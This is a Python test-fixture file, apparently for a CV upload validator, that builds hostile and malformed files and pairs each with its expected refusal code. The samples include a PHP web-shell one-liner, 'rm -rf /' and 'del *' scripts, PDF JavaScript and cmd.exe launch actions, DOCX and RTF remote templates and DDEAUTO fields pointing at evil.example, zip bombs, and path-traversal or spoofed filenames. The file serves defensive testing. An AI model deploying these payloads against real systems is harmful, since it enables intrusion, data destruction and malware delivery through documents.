"""Hostile, broken and mistaken files, built from scratch, each with the code of its refusal."""

from __future__ import annotations

import struct

from tests.submissions import cv_files as files

PDF, DOCX, PNG, JPEG = files.pdf(), files.docx(), files.png(), files.jpeg()
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bytes(200)
ZIP = files.archive({"evil.exe": EXE})
GIF = b"GIF89a\1\0\1\0\0\0\0;"
JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
RELS = "word/_rels/settings.xml.rels"
WORKBOOK = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
PACKAGE = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 66_000 + "\x01Ole10Native".encode("utf-16-le")
)
ENTITIES = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><Types>&b;</Types>'


def docx_with(part: str, content: bytes | str) -> bytes:
    return files.docx({part: content})


def external(kind: str, target: str) -> bytes:
    return docx_with(RELS, files.relationships((kind, target)))


def patched(content: bytes, old: bytes, new: bytes) -> bytes:
    assert old in content
    return content.replace(old, new)


def encrypted(content: bytes) -> bytes:
    """The archive with the flag for encryption on its first entry, in both places."""
    place = content.index(b"PK\x01\x02") + 8
    return content[:6] + b"\1" + content[7:place] + b"\1" + content[place + 1 :]


def lying(content: bytes) -> bytes:
    """The archive with a size of one byte for its first entry in the directory."""
    place = content.index(b"PK\x01\x02") + 24
    return content[:place] + struct.pack("<I", 1) + content[place + 4 :]


def overlapping() -> bytes:
    """An entry that lies within another one's bytes, so that both are unpacked from the same."""
    inner = files.archive({"inner.xml": bytes(1000)}, stored=("inner.xml",))
    inner = inner[: inner.index(b"PK\1\2")]
    outer = files.archive({"[Content_Types].xml": inner}, stored=("[Content_Types].xml",))
    directory = outer.index(b"PK\1\2", len(inner))
    end = outer.index(b"PK\5\6", directory)
    entry = b"PK\1\2\x14\0" + inner[4:30] + bytes(10) + struct.pack("<I", outer.index(inner))
    both = outer[directory:end] + entry + b"inner.xml"
    tail = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 2, 2, len(both), directory, 0)
    return outer[:directory] + both + tail


def many_entries() -> bytes:
    return files.docx({f"word/media/{number}.txt": b"" for number in range(2_100)})


def prefixed_zip() -> bytes:
    """An archive behind another one's first entry: two readers, two documents."""
    return DOCX[:60] + DOCX


def local_name_differs() -> bytes:
    return DOCX.replace(b"word/document.xml", b"word/documenX.xml", 1)


def looping_doc() -> bytes:
    """A directory whose chain of sectors leads back to itself."""
    content = bytearray(files.doc())
    first = struct.unpack_from("<I", content, 48)[0]
    struct.pack_into("<I", content, 512 + 4 * first, first)
    return bytes(content)


def endless_doc() -> bytes:
    """A chain of tables that leads back to itself."""
    content = bytearray(files.doc())
    struct.pack_into("<2I", content, 68, 1, 99)
    struct.pack_into("<I", content, 1024 + 508, 1)
    return bytes(content)


def mimetype_packed() -> bytes:
    return files.archive(
        {"mimetype": files.ODF + "text", "content.xml": "", "META-INF/manifest.xml": "<m/>"}
    )


def nested_bomb() -> bytes:
    inner = files.archive({f"{n}.bin": bytes(30 * 1024**2) for n in range(2)})
    return files.archive(
        {**files.docx_parts(), **{f"a{n}.zip": inner for n in range(3)}, "b": bytes(30 * 1024**2)}
    )


NAMES = [
    ("", "name_missing"),
    (" \u200b ", "name_missing"),
    ("cv", "extension_missing"),
    ("../../etc/cv.pdf", "name_path"),
    ("C:\\Users\\lea\\cv.pdf", "name_path"),
    ("cv.pdf:evil.exe", "name_path"),
    ("cv\x00.pdf", "name_characters"),
    ("cv\r\nX-Evil: 1.pdf", "name_characters"),
    ("cv\udcff.pdf", "name_characters"),
    ("cv\u202efdp.exe", "name_direction"),
    ("cv\u2067gpj.pdf", "name_direction"),
    (".pdf", "name_hidden"),
    (".cv.pdf", "name_hidden"),
    ("CON.pdf", "name_reserved"),
    ("lpt1.x.pdf", "name_reserved"),
    ("cv.pdf.exe", "name_program"),
    ("cv.exe.pdf", "name_program"),
    ("cv.pdf.exe. .", "name_program"),
    ("cv.pdf.SCR ", "name_program"),
    ("cv.pdf.lnk", "name_program"),
    ("cv.html", "name_program"),
    ("cv.svg", "name_program"),
    ("cv.docm", "name_program"),
    ("a" * 201 + ".pdf", "name_too_long"),
    ("cv.pdf.", "extension_missing"),
    ("cv.docx", "extension_mismatch"),
    ("cv.pdfx", "extension_mismatch"),
]

CONTENTS = [
    # Not what it says
    ("HTML posing as PDF", "cv.pdf", HTML, "markup"),
    ("HTML behind blanks", "cv.pdf", b"\xef\xbb\xbf \r\n" + HTML, "markup"),
    ("HTML in UTF-16", "cv.txt", HTML.decode().encode("utf-16"), "markup"),
    ("HTML behind text", "cv.txt", b"Lea Orval " + HTML, "markup"),
    ("SVG posing as PDF", "cv.pdf", SVG, "markup"),
    ("SVG posing as PNG", "cv.png", b'<?xml version="1.0"?>' + SVG, "markup"),
    ("XML posing as DOC", "cv.doc", b"<?xml version='1.0'?><w:wordDocument/>", "markup"),
    ("MHT posing as DOC", "cv.doc", b"MIME-Version: 1.0\r\n\r\n", "markup"),
    ("PHP posing as TXT", "cv.txt", b"<?php system($_GET[0]);", "markup"),
    ("shell script posing as TXT", "cv.txt", b"#!/bin/sh\nrm -rf /", "program"),
    ("batch file posing as TXT", "cv.txt", b"@echo off\r\ndel *", "program"),
    ("program posing as PDF", "cv.pdf", EXE, "program"),
    ("GIF posing as JPEG", "cv.jpg", GIF, "not_accepted"),
    ("HEIC posing as JPEG", "cv.jpg", b"\0\0\0\x18ftypheic" + bytes(99), "not_accepted"),
    ("ZIP posing as PDF", "cv.pdf", ZIP, "not_accepted"),
    ("ZIP", "cv.zip", ZIP, "not_accepted"),
    ("RAR posing as DOC", "cv.doc", b"Rar!\x1a\7\0" + bytes(9), "not_accepted"),
    ("gzip", "cv.pdf", b"\x1f\x8b\x08\0" + bytes(9), "not_accepted"),
    ("noise", "cv.pdf", bytes(range(256)), "unknown"),
    ("RTF posing as DOC", "cv.doc", files.RTF, "extension_mismatch"),
    ("PDF posing as TXT", "cv.txt", PDF, "extension_mismatch"),
    ("JPEG posing as PNG", "cv.png", JPEG, "extension_mismatch"),
    ("empty", "cv.pdf", b"", "empty"),
    ("blank text", "cv.txt", b" \r\n\t", "empty"),
    ("over the limit", "cv.txt", b"x" * 1025, "too_large"),
    ("zeros", "cv.txt", b"a\0b", "unknown"),
    ("escape sequences", "cv.txt", b"\x1b[2J\x1b]0;x\x07", "unknown"),
    # PDF
    ("PDF cut in its first page", "cv.pdf", PDF[:150], "broken"),
    ("PDF of a header only", "cv.pdf", b"%PDF-1.4\n", "broken"),
    ("PDF without objects", "cv.pdf", b"%PDF-1.4\nstartxref\n9\n%%EOF", "broken"),
    ("PDF of no version", "cv.pdf", PDF.replace(b"PDF-1.7", b"PDF-<x>"), "broken"),
    ("PDF with JavaScript", "cv.pdf", files.pdf(JAVASCRIPT), "javascript"),
    (
        "PDF with JavaScript by another name",
        "cv.pdf",
        files.pdf(b"<< /S /J#61vaScrip#74 >>"),
        "javascript",
    ),
    (
        "PDF with JavaScript on opening",
        "cv.pdf",
        files.pdf(b"<< /OpenAction << /S /JavaScript /JS 9 0 R >> >>"),
        "javascript",
    ),
    (
        "PDF with JavaScript after a comment",
        "cv.pdf",
        files.pdf(b"<< % (\n /JS (x) >>"),
        "javascript",
    ),
    (
        "PDF with JavaScript after a string",
        "cv.pdf",
        files.pdf(b"<< /A (\\() /B (9 0 obj %\\)) /JS (x) >>"),
        "javascript",
    ),
    (
        "PDF with JavaScript after a false end",
        "cv.pdf",
        files.pdf(b"<< /A (endobj stream\n) /JS (x) >>"),
        "javascript",
    ),
    (
        "PDF with JavaScript in packed objects",
        "cv.pdf",
        files.pdf(files.packed_objects(b"9 0 " + JAVASCRIPT)),
        "javascript",
    ),
    (
        "PDF with JavaScript in its trailer",
        "cv.pdf",
        files.pdf(trailer=b"/Names << /JavaScript << /Names [] >> >>"),
        "javascript",
    ),
    ("PDF that starts a program", "cv.pdf", files.pdf(b"<< /S /Launch /F (cmd.exe) >>"), "launch"),
    (
        "PDF with a program inside",
        "cv.pdf",
        files.pdf(
            b"<< /Type /Filespec /F (x.exe) >>", files.pdf_stream(b"/Type /EmbeddedFile", EXE)
        ),
        "embedded",
    ),
    (
        "PDF with a nameless file inside",
        "cv.pdf",
        files.pdf(files.pdf_stream(b"/Type /EmbeddedFile", EXE)),
        "embedded",
    ),
    (
        "PDF with a program named in UTF-16",
        "cv.pdf",
        files.pdf(
            b"<< /UF <FEFF0061002E006500780065> /EF << /F 5 0 R >> >>",
            files.pdf_stream(b"/Type /EmbeddedFile", EXE),
        ),
        "embedded",
    ),
    ("PDF of endless parts", "cv.pdf", files.pdf(b"[" + b"0 " * 1_600_000 + b"]"), "too_complex"),
    (
        "PDF with a part in another filter",
        "cv.pdf",
        files.pdf(files.pdf_stream(b"/Type /ObjStm /Filter /BrotliDecode", b"x")),
        "unreadable",
    ),
    ("PDF that sends", "cv.pdf", files.pdf(b"<< /S /SubmitForm /F (http://x.example) >>"), "sends"),
    ("PDF with a link", "cv.pdf", files.pdf(b"<< /S /URI /URI (file:///c:/a.exe) >>"), "link"),
    ("PDF with a film", "cv.pdf", files.pdf(b"<< /Subtype /RichMedia >>"), "embedded"),
    ("PDF bomb", "cv.pdf", files.pdf(files.packed_objects(bytes(65 * 1024**2))), "bomb"),
    ("PDF behind HTML", "cv.pdf", b"<html><script>x</script>" + PDF, "polyglot"),
    ("PDF behind GIF", "cv.pdf", GIF + PDF, "polyglot"),
    ("PDF behind a script", "cv.pdf", b"x=1/*" + PDF, "polyglot"),
    ("PDF with a ZIP at its end", "cv.pdf", PDF + ZIP, "polyglot"),
    ("PDF in front of a JAR, padded", "cv.pdf", PDF[:-6] + ZIP + PDF[-60:], "polyglot"),
    ("PDF with HTML at its end", "cv.pdf", PDF + HTML, "polyglot"),
    # Office
    ("macro document", "cv.docx", docx_with("word/vbaProject.bin", b"x"), "macros"),
    (
        "macro document by its type",
        "cv.docx",
        files.archive(files.docx_parts(kind=MACRO_WORD)),
        "macros",
    ),
    ("macro document, renamed part", "cv.docx", docx_with("word/VBAPROJECT2.BIN", b"x"), "macros"),
    ("controls", "cv.docx", docx_with("word/activeX/activeX1.bin", b"x"), "embedded"),
    ("packed program", "cv.docx", docx_with("word/embeddings/oleObject1.bin", PACKAGE), "embedded"),
    (
        "template from afar",
        "cv.docx",
        external("attachedTemplate", "https://evil.example/x.dotm"),
        "remote",
    ),
    (
        "template from a share",
        "cv.docx",
        external("attachedTemplate", "file:///\\\\evil.example\\x.dotx"),
        "remote",
    ),
    (
        "template from a share, plainly",
        "cv.docx",
        external("attachedTemplate", "\\\\10.0.0.9\\x.dotx"),
        "remote",
    ),
    (
        "object from afar",
        "cv.docx",
        external("oleObject", "mhtml:https://evil.example/x"),
        "remote",
    ),
    ("frame from afar", "cv.docx", external("frame", "https://evil.example/"), "remote"),
    (
        "workbook",
        "cv.docx",
        files.archive(files.docx_parts("xl/workbook.xml", WORKBOOK)),
        "not_accepted",
    ),
    (
        "slides",
        "cv.docx",
        files.archive(files.docx_parts("ppt/presentation.xml", SLIDES)),
        "not_accepted",
    ),
    (
        "no main part",
        "cv.docx",
        files.archive({"[Content_Types].xml": files.content_types()}),
        "broken",
    ),
    ("entities", "cv.docx", docx_with("[Content_Types].xml", ENTITIES), "broken"),
    ("malformed types", "cv.docx", docx_with("[Content_Types].xml", "<Types>"), "broken"),
    ("bomb", "cv.docx", docx_with("word/media/a.bmp", bytes(40 * 1024**2)), "bomb"),
    ("nested bombs", "cv.docx", nested_bomb(), "bomb"),
    ("bomb of entries", "cv.docx", many_entries(), "bomb"),
    ("overlapping entries", "cv.docx", overlapping(), "bomb"),
    ("lying size", "cv.docx", lying(DOCX), "broken"),
    ("way out", "cv.docx", docx_with("../../evil.txt", b"x"), "archive_path"),
    ("absolute path", "cv.docx", docx_with("/etc/evil", b"x"), "archive_path"),
    ("drive", "cv.docx", docx_with("C:/evil.txt", b"x"), "archive_path"),
    ("backslashes", "cv.docx", docx_with("..\\evil.txt", b"x"), "archive_path"),
    ("encrypted entry", "cv.docx", encrypted(DOCX), "password"),
    ("one part under two names", "cv.docx", local_name_differs(), "broken"),
    ("archive cut off", "cv.docx", DOCX[:-30], "broken"),
    ("archive of no directory", "cv.docx", DOCX[:100] + b"[Content_Types].xml", "broken"),
    ("archive in an archive's lap", "cv.docx", prefixed_zip(), "polyglot"),
    ("archive with a tail", "cv.docx", DOCX + HTML, "polyglot"),
    (
        "archive that is a PDF",
        "cv.docx",
        files.archive({"a": PDF, **files.docx_parts()}, stored=("a",)),
        "polyglot",
    ),
    # OpenDocument
    ("ODT with macros", "cv.odt", files.odt({"Basic/Standard/Module1.xml": "<m/>"}), "macros"),
    ("ODT with scripts", "cv.odt", files.odt({"Scripts/python/x.py": "x"}), "macros"),
    ("ODT with a password", "cv.odt", files.odt(manifest="<m:encryption-data/>"), "password"),
    ("ODT, kind packed", "cv.odt", mimetype_packed(), "broken"),
    (
        "ODT without text",
        "cv.odt",
        files.archive({"mimetype": files.ODF + "text"}, stored=("mimetype",)),
        "broken",
    ),
    ("spreadsheet", "cv.odt", files.odt(kind=files.ODF + "spreadsheet"), "not_accepted"),
    ("template", "cv.odt", files.odt(kind=files.ODF + "text-template"), "not_accepted"),
    # DOC
    ("DOC with macros", "cv.doc", files.doc(("Macros", 1), ("VBA", 1)), "macros"),
    ("DOC with a packed program", "cv.doc", files.doc(("\x01Ole10Native", 2)), "embedded"),
    ("DOC with a password", "cv.doc", files.doc(flags=0x0100), "password"),
    ("DOCX with a password", "cv.docx", files.doc(stream="EncryptedPackage"), "password"),
    ("XLS", "cv.doc", files.doc(stream="Workbook"), "not_accepted"),
    ("PPT", "cv.doc", files.doc(stream="PowerPoint Document"), "not_accepted"),
    ("MSG", "cv.doc", files.doc(stream="__properties_version1.0"), "not_accepted"),
    ("MSI", "cv.doc", files.doc(stream="!_Tables"), "not_accepted"),
    ("DOC of other content", "cv.doc", files.doc(word=b"x" * 5000), "broken"),
    ("DOC of a header only", "cv.doc", files.doc()[:512], "broken"),
    ("DOC of a signature only", "cv.doc", files.doc()[:8], "broken"),
    ("DOC in circles", "cv.doc", looping_doc(), "broken"),
    ("DOC with endless tables", "cv.doc", endless_doc(), "broken"),
    ("DOC with a ZIP at its end", "cv.doc", files.doc() + ZIP, "polyglot"),
    # RTF
    (
        "RTF with an object",
        "cv.rtf",
        files.RTF[:-1] + b"{\\object\\objemb{\\*\\objdata 0105}}}",
        "embedded",
    ),
    ("RTF with an updating object", "cv.rtf", files.RTF[:-1] + b"{\\objupdate}}", "embedded"),
    (
        "RTF with a template from afar",
        "cv.rtf",
        files.RTF[:-1] + b"{\\*\\template https://evil.example/x}}",
        "remote",
    ),
    (
        "RTF with a field that runs",
        "cv.rtf",
        files.RTF[:-1] + b"{\\field{\\*\\fldinst {\\rtlch DDEAUTO cmd}}}}",
        "remote",
    ),
    ("RTF cut off", "cv.rtf", files.RTF[:-5], "broken"),
    ("RTF with a tail", "cv.rtf", files.RTF + HTML, "polyglot"),
    # Pictures
    ("PNG cut off", "cv.png", PNG[:-5], "broken"),
    ("PNG of a damaged chunk", "cv.png", PNG.replace(b"IHDR\0\0\0\1", b"IHDR\0\0\0\2"), "broken"),
    ("PNG without a picture", "cv.png", PNG[:33] + files.chunk(b"IEND"), "broken"),
    ("PNG of endless size", "cv.png", files.png(60_000, 60_000), "dimensions"),
    ("PNG of no size", "cv.png", files.png(0, 1), "broken"),
    ("PNG with a ZIP at its end", "cv.png", files.png(end=ZIP), "polyglot"),
    ("PNG with HTML at its end", "cv.png", files.png(end=HTML), "polyglot"),
    (
        "PNG with a PDF inside",
        "cv.png",
        files.png(1, 1, files.chunk(b"tEXt", b"x\0" + PDF)),
        "polyglot",
    ),
    ("JPEG cut off", "cv.jpg", JPEG[:-2], "broken"),
    ("JPEG of a start only", "cv.jpg", b"\xff\xd8\xff", "broken"),
    (
        "JPEG without a picture",
        "cv.jpg",
        b"\xff\xd8" + files.segment(0xE0, b"JFIF") + b"\xff\xd9",
        "broken",
    ),
    ("JPEG of endless size", "cv.jpg", files.jpeg(65_000, 65_000), "dimensions"),
    ("JPEG with PHP at its end", "cv.jpg", JPEG + b"<?php x();", "polyglot"),
    ("JPEG with a ZIP at its end", "cv.jpg", JPEG + ZIP, "polyglot"),
    (
        "JPEG with a ZIP in a film at its end",
        "cv.jpg",
        JPEG + b"\0\0\0\x18ftypmp42" + ZIP,
        "polyglot",
    ),
]
